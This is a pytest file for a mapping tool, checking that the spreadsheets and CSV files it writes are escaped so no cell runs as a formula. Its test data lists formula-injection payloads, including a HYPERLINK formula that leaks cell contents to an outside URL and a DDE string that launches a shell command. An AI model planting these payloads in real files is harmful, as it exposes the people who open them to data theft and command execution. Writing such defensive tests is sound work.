"""Files the tool writes for people are inert: no cell of an .xlsx or .csv it writes
is run as a formula when a spreadsheet opens it, and csv escapes read back as typed."""

from __future__ import annotations

import csv
import io
import re
import shutil
import tempfile
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph import SystemMap
from loaders import VLEUTEN, load_map, write_csv_folder, write_xlsx
from loaders.write import FORMULA_STARTS, inert_text, restore_text
from versterkt.cli import main

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"klik")',
    "=1+1",
    "+1+1",
    "-1+2",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "'=1",
]

_FORMULA_ELEMENT = re.compile(r"<(?:\w+:)?f[ >/]")
_CELL = re.compile(r'<c r="([A-Z]+[0-9]+)"([^>]*)>(.*?)</c>', re.S)


def _runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet opening a csv would run ``cell``: it starts with a
    formula character and is neither a plain number nor a sign on its own."""
    if not cell.startswith(FORMULA_STARTS) or cell in ("+", "-"):
        return False
    return re.fullmatch(r"[+-]?[0-9]+(?:[.,][0-9]*)?(?:[eE][+-]?[0-9]+)?", cell) is None


def _hostile_map() -> SystemMap:
    m = load_map(VLEUTEN)
    for i, name in enumerate(HOSTILE):
        m.add_node("Actor", f"vijand-{i}", name, actor_kind="groep", note=name)
    return m


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {
            n: z.read(n).decode("utf-8")
            for n in z.namelist()
            if n.startswith("xl/worksheets/") and n.endswith(".xml")
        }


def _assert_inert_xlsx(path: Path, texts: list[str]) -> None:
    """No formula element in any sheet, and every cell holding one of ``texts`` is a
    text cell (shared or inline string)."""
    sheets = _sheet_xml(path)
    assert sheets
    for name, xml in sheets.items():
        assert not _FORMULA_ELEMENT.search(xml), name
        for _, attrs, _ in _CELL.findall(xml):
            assert 't="str"' not in attrs, name  # a formula's cached text
    with zipfile.ZipFile(path) as z:
        shared = (
            z.read("xl/sharedStrings.xml").decode("utf-8")
            if "xl/sharedStrings.xml" in (z.namelist())
            else ""
        )
    for text in texts:
        escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert escaped in shared or any(escaped in xml for xml in sheets.values()), text


def test_written_xlsx_holds_text_never_formulas(tmp_path: Path) -> None:
    m = _hostile_map()
    path = write_xlsx(m, tmp_path / "kaart.xlsx")
    _assert_inert_xlsx(path, HOSTILE)
    assert load_map(path) == m


def test_written_csv_escapes_what_a_spreadsheet_would_run(tmp_path: Path) -> None:
    m = _hostile_map()
    write_csv_folder(m, tmp_path / "kaart")
    text = (tmp_path / "kaart" / "actoren.csv").read_text("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if _runs_as_formula(c)]
    assert "'=1+1" in cells and "''=1" in cells and "'-1+2" in cells
    assert load_map(tmp_path / "kaart") == m


def test_signs_and_numbers_stay_as_they_are(tmp_path: Path) -> None:
    write_csv_folder(load_map(VLEUTEN), tmp_path)
    signs = [
        row["teken"]
        for row in csv.DictReader(io.StringIO((tmp_path / "relaties.csv").read_text("utf-8")))
    ]
    assert set(signs) <= {"+", "-", ""} and "+" in signs
    assert (
        inert_text("-3") == "-3" and inert_text("+2.5") == "+2.5" and inert_text("1e-3") == "1e-3"
    )


_CELL_TEXT = st.text(st.sampled_from(list("=+-@'\t\r abc1(),;\"")), max_size=12)


@given(_CELL_TEXT)
def test_escaping_is_reversible_and_inert(text: str) -> None:
    escaped = inert_text(text)
    assert restore_text(escaped) == text
    assert not _runs_as_formula(escaped)


_NAME = (
    st.text(st.sampled_from(list("=+-@'abc ()\"&<;,")), min_size=1, max_size=15)
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_NAME, min_size=1, max_size=6))
def test_generated_cell_values_are_never_formulas(names: list[str]) -> None:
    m = SystemMap("kaart", "Kaart")
    for i, name in enumerate(names):
        m.add_node("Factor", f"f-{i}", name, level="persoon", role="bron", note=name)
    m.add_node("Actor", "a", "A", actor_kind="groep")
    m.add_link("l", "INFLUENCES", "a", "f-0", sign="-")
    with tempfile.TemporaryDirectory() as tmp:
        xlsx = write_xlsx(m, Path(tmp) / "k.xlsx")
        _assert_inert_xlsx(xlsx, [])
        folder = Path(tmp) / "k"
        write_csv_folder(m, folder)
        for f in folder.glob("*.csv"):
            cells = [c for row in csv.reader(io.StringIO(f.read_text("utf-8"))) for c in row]
            assert not [c for c in cells if _runs_as_formula(c)], f.name
        assert load_map(folder) == m
        assert load_map(xlsx) == m


@pytest.mark.parametrize(
    "args",
    [
        ["query", "influence", "--format", "csv"],
        ["query", "statements", "--format", "csv"],
        ["agenda", "--format", "csv"],
    ],
)
def test_csv_answers_on_the_command_line_are_inert(tmp_path: Path, args: list[str]) -> None:
    folder = tmp_path / "wijk"
    shutil.copytree(VLEUTEN, folder)
    for name, old, new in [
        ("factoren.csv", ",Druk vanuit leeftijdsgenoten,", ",=Druk vanuit leeftijdsgenoten,"),
        ("stellingen.csv", ",We moeten minder gaan", ",@We moeten minder gaan"),
    ]:
        path = folder / name
        text = path.read_text("utf-8")
        assert old in text
        path.write_text(text.replace(old, new, 1), "utf-8")
    result = CliRunner().invoke(main, [*args, str(folder)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert cells and not [c for c in cells if _runs_as_formula(c)]
    assert any(c.startswith(("'=Druk", "'@We")) for c in cells)


def test_reviews_recorded_into_a_csv_workbook_are_inert(tmp_path: Path) -> None:
    import openpyxl

    from loaders.review_form import record_review_form, write_review_form
    from tests.test_cycle_example import ROUND_1

    workbook = Path(shutil.copytree(ROUND_1, tmp_path / "werkboek"))
    form = write_review_form(load_map(workbook), 1, tmp_path / "formulier.xlsx", groups=["ouder"])
    wb = openpyxl.load_workbook(form)
    ws = wb["reacties"]
    headers = [c.value for c in ws[1]]
    ws.cell(row=2, column=headers.index("ouder") + 1, value="eens")
    note = ws.cell(row=2, column=headers.index("toelichting ouder") + 1, value="=1+1")
    note.data_type = "s"  # typed as text, as a facilitator would
    wb.save(form)
    record_review_form(form, workbook)
    text = (workbook / "toetsing.csv").read_text("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=1+1" in cells and not [c for c in cells if _runs_as_formula(c)]
    assert [r["note"] for r in load_map(workbook).reviews] == ["=1+1"]
